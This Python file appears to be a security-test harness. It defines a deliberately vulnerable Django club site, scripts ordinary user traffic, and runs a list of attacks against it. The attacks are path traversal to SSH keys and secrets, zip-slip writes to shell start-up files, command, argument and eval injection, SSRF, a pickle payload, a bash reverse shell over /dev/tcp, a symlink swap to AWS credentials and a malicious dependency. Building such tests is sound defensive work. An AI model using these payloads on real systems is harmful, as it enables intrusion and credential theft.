# SPDX-License-Identifier: Apache-2.0
"""A Django site behind gunicorn."""
import base64
import io
import os
import pickle
import shutil
import subprocess
import zipfile

from attackers import Bomb
import stage

MEMBERS = ["anna", "ben", "carla", "dmitri", "Hans Peter", "ines-lu",
           "o.brien", "zoe"]
SLUGS = {
    "__init__.py": "from slugs.words import slug\n",
    "words.py": 'def slug(text):\n    return text.lower().replace(" ", "-")\n',
}
# What an honest minor release may bring: a module, data, a lazy import.
SLUGS_NEW = {
    "__init__.py": "from slugs.words import slug\n",
    "words.py": "def slug(text):\n    from slugs import _table\n"
                '    return _table.fold(text).replace(" ", "-")\n',
    "_table.py": "import json\nimport os\n"
                 "HERE = os.path.dirname(__file__)\n\n\ndef fold(text):\n"
                 '    with open(os.path.join(HERE, "table.json")) as file:\n'
                 "        table = json.load(file)\n"
                 '    return "".join(table.get(c, c) for c in text.lower())\n',
    "table.json": '{"ä": "ae", "ö": "oe", ".": "-"}\n',
}
PHOTO = b"\x89PNG" + b"photo" * 40


def archive(**members):
    content = io.BytesIO()
    with zipfile.ZipFile(content, "w") as file:
        for name, text in members.items():
            file.writestr(name, text)
    return content.getvalue()


class DjangoSite(stage.Service):
    """A site with users, uploads, sessions and reports (Django, gunicorn)."""
    packages = ["python3-django", "gunicorn"]

    def arrange(self):
        stage.write(self.srv / "secret.key", "not-" + stage.SECRET)
        for name in ("bar.txt", "boat house.txt", "rules.v2.txt", "keys.txt"):
            stage.write(self.srv / "manuals" / name, f"About {name}\n")
        for name in ("media", "sessions", "outbox"):
            (self.srv / "var" / name).mkdir(parents=True)
        self.install("slugs", "1.2.0", SLUGS)
        seed = self.place.parent / "seed.sqlite3"
        database = self.srv / "var/club.sqlite3"
        if not seed.exists():
            status, text = self.run(self.python, "seed.py", *MEMBERS,
                                    wrapped=False)
            if status:
                raise stage.Broken(text)
            shutil.copy(database, seed)
            for cache in self.srv.rglob("__pycache__"):
                shutil.rmtree(cache)
            (self.srv / "var/site.log").unlink()
        shutil.copy(seed, database)

    def arrange_benign(self):
        self.install("slugs", "1.3.0", SLUGS_NEW)

    def command(self):
        return [self.python, "/usr/bin/gunicorn", "--workers", "1",
                "--bind", f"127.0.0.1:{self.port('web')}", "club.wsgi"]

    # ------------------------------------------------------------ ordinary use
    def enter(self, name):
        browser = self.browser()
        self.expect_answer(f"{name} enters", browser.post(
            "/enter", user=name, password=name[::-1]), "hello " + name)
        return browser

    def share(self, name, album, file, kind="image/png", content=PHOTO):
        browser = self.enter(name)
        stored = self.expect_answer(f"{name} uploads {file}", browser.upload(
            "/upload", file, content, kind, album=album))
        at = (stored.decode().partition("/")[2] if stored
              else f"{album}/{file}")
        self.expect_answer(f"{name} sees {album}",
                           browser.get("/album", album=album), "<li>")
        self.expect_answer(f"{name} gets {at}", browser.get("/photo/" + at),
                           content[:10])
        return browser, at

    def office(self, browser, month, key, size, at, formula, manual):
        self.expect_answer(f"report {month}", browser.post(
            "/report/" + month, key=key), "anna,")
        self.expect_answer(f"thumbnail of {at}", browser.get(
            "/thumbnail", name=at, size=size), PHOTO[:4])
        self.expect_answer(f"fee {formula}",
                           browser.get("/fee", formula=formula))
        self.expect_answer(f"manual {manual}",
                           browser.get("/manual", name=manual), "About")
        self.expect_answer("preferences", browser.post(
            "/preferences", state=browser.get("/preferences")[1].decode()),
            "language")

    def picture(self, browser, path):
        self.expect_answer(f"avatar {path}", browser.post(
            "/avatar", url=self.site("pictures").url + path), "face")

    def train(self, day):
        self.site("pictures").page("*", b"a face")
        visitor = self.browser()
        self.expect_answer("home", visitor.get("/"), "stranger")
        self.expect_answer("not found", visitor.get("/nothing"), status=404)
        self.expect_answer("wrong password", visitor.post(
            "/enter", user="anna", password="x"), status=403)
        work = [("anna", "main", "me.png", "2026-01", "-k1", 40, "base / 2",
                 "bar.txt"),
                ("ben", "alps 2025", "top.jpg", "2026-02", "-k2", 64,
                 "base + 10", "boat house.txt"),
                ("carla", "boats", "red boat.png", "2026-03", "-k2n", 90,
                 "max(base, 3)", "rules.v2.txt")]
        for name, album, file, month, key, size, formula, manual in work:
            browser, at = self.share(name, album, f"{day}-{file}")
            self.office(browser, month, key, size, at, formula, manual)
            self.picture(browser, f"/{name}.png")
            self.expect_answer("archive", browser.upload(
                "/unpack", "all.zip", archive(**{
                    f"{name} {day}/{file}": PHOTO, f"{album}/b.jpg": PHOTO}),
                "application/zip"), "2 unpacked")
        self.expect_answer("newsletter", browser.post(
            "/newsletter", subject="Spring", text="It is spring."), "sent 1")
        self.expect_answer("leave", browser.post("/leave"), "bye")

    def benign(self):
        self.site("pictures").page("*", b"a face")
        self.expect_answer("not found", self.browser().get("/favicon.ico"),
                           status=404)
        work = [("Hans Peter", "Sommer 2026", "Berg & Tal.webp", "2026-11",
                 "-k1", 33, "base * 0.75", "keys.txt"),
                ("ines-lu", "2026/alps/day 1", "IMG_0042.heic", "2027-02",
                 "-k2", 128, "min(base, 20) - 1", "bar.txt"),
                ("o.brien", "my.album", "a-b c.v2.gif", "2031-10", "-k2n",
                 7, "round(base / 3, 2)", "rules.v2.txt"),
                ("zoe", "main", "me.png", "2026-12", "-k1", 999, "base",
                 "boat house.txt")]
        for name, album, file, month, key, size, formula, manual in work:
            browser, at = self.share(name, album, file, "image/x")
            self.office(browser, month, key, size, at, formula, manual)
            self.picture(browser, f"/people/{len(name)}/face.jpeg")
            self.share(name, album, file)  # a second one of that name
        self.share("zoe", "large", "film.mp4", "video/mp4", b"film" * 90000)
        self.expect_answer("archive", browser.upload(
            "/unpack", "x.zip", archive(**{
                "tour 2/deep/er/c.tiff": PHOTO, "d.bmp": PHOTO}),
            "application/zip"), "2 unpacked")
        self.expect_answer("no archive", browser.upload(
            "/unpack", "x.zip", b"PK no"), status=500)
        self.expect_answer("error", self.browser().get("/broken"), status=500)
        self.expect_answer("password", browser.post(
            "/password", new="another"), "changed")
        self.expect_answer("newsletter", self.enter("ben").post(
            "/newsletter", subject="Herbst", text="Blätter"), "sent 1")

    def health(self):
        browser = self.enter("anna")
        self.expect_answer("manual", browser.get("/manual", name="bar.txt"),
                           "About")
        self.expect_answer("report", browser.post(
            "/report/2026-01", key="-k1"), "anna,")

    # ----------------------------------------------------------------- attacks
    def reads(self, path, **query):
        return stage.SECRET.encode() in self.browser().get(path, **query)[1]

    def evaluates(self, formula):
        return self.browser().get("/fee", formula=formula)

    def explodes(self, *call):
        state = base64.b64encode(pickle.dumps(Bomb(*call)))
        return self.enter("anna").post("/preferences", state=state.decode())

    @stage.attack("traversal")
    def manual_is_a_private_key(self):
        return self.reads("/manual", name="../../home/.ssh/id_rsa")

    @stage.attack("source disclosure")
    def manual_is_the_source(self):
        return b"HOLE" in self.browser().get(
            "/manual", name="../club/views.py")[1]

    @stage.attack("secret disclosure")
    def manual_is_the_signing_key(self):
        return self.reads("/manual", name="../secret.key")

    @stage.attack("write to code", fresh=True)
    def archive_replaces_a_view(self):
        self.enter("anna").upload("/unpack", "x.zip", archive(**{
            "../../../club/urls_extra.py": "import os  # planted"}))
        return (self.srv / "club/urls_extra.py").exists()

    @stage.attack("write to start-up file", fresh=True)
    def archive_appends_to_the_shell_profile(self):
        self.enter("anna").upload("/unpack", "x.zip", archive(**{
            "../../../../home/.bashrc": "planted"}))
        return "planted" in (self.home / ".bashrc").read_text()

    @stage.attack("command injection")
    def size_runs_a_command(self):
        browser, at = self.share("anna", "main", "x.png")
        return self.runs_line(lambda line: browser.get(
            "/thumbnail", name=at, size=f"1 /dev/null; {line}; head -c 9"))

    @stage.attack("argument injection", fresh=True)
    def key_writes_another_file(self):
        self.enter("anna").post("/report/2026-01",
                                key=f"--output={self.home}/.profile")
        return "anna," in (self.home / ".profile").read_text()

    @stage.attack("SSRF")
    def avatar_is_an_internal_service(self):
        browser, _ = self.share("anna", "main", "x.png")
        return self.fetches_inside(
            lambda url: browser.post("/avatar", url=url))

    @stage.attack("secret disclosure")
    def avatar_is_a_local_file(self):
        browser, _ = self.share("anna", "main", "x.png")
        answer = browser.post(
            "/avatar", url=f"file://{self.place}/payroll/2026.csv")
        return stage.SECRET.encode() in answer[1]

    @stage.attack("eval injection")
    def formula_runs_a_command(self):
        return self.runs_line(lambda line: self.evaluates(
            f"__import__('os').system('{line}')"))

    @stage.attack("eval injection")
    def formula_reads_a_password(self):
        return self.reads("/fee", formula=f"open('{self.home}/.netrc').read()")

    @stage.attack("fork+exec")
    def formula_forks_and_execs(self):
        return self.forks(lambda code: self.evaluates(f"exec({code!r})"))

    @stage.attack("ctypes")
    def formula_calls_libc(self):
        return self.runs_libc(self.evaluates)

    @stage.attack("unsafe pickle")
    def preferences_run_a_command(self):
        return self.runs_line(lambda line: self.explodes(os.system, line))

    @stage.attack("reverse shell")
    def preferences_call_home(self):
        with self.listener() as attacker:
            self.explodes(subprocess.Popen, [
                "bash", "-c", "exec bash -i </dev/tcp/127.0.0.1/"
                f"{self.port('shell')} >&0 2>&0"])
            return self.happens(lambda: b"got-42" in attacker.heard)

    @stage.attack("symlink swap", fresh=True)
    def photo_became_a_link(self):
        browser, at = self.share("anna", "main", "swap.png")
        photo = self.srv / "var/media/anna" / at
        photo.unlink()
        photo.symlink_to(self.home / ".aws/credentials")
        return stage.SECRET.encode() in browser.get("/photo/" + at)[1]

    @stage.attack("malicious dependency", fresh=True)
    def slugs_steals_credentials(self):
        def use():
            self.restart()
            self.browser().get("/")
        return self.dependency_steals("slugs", "1.2.1", SLUGS, use,
                                      module="words.py")
